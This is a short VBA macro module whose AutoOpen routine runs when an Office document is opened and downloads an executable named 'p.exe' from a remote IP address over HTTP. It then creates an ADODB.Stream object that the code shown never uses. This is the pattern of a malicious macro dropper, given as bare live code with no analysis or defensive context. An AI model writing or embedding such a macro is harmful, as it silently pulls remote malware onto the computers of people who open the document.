Attribute VB_Name = "Module1"
Sub AutoOpen()
    Set x = CreateObject("MSXML2.XMLHTTP")
    x.Open "GET", "http://198.51.100.9/p.exe", False
    x.Send
    Set s = CreateObject("ADODB.Stream")
End Sub
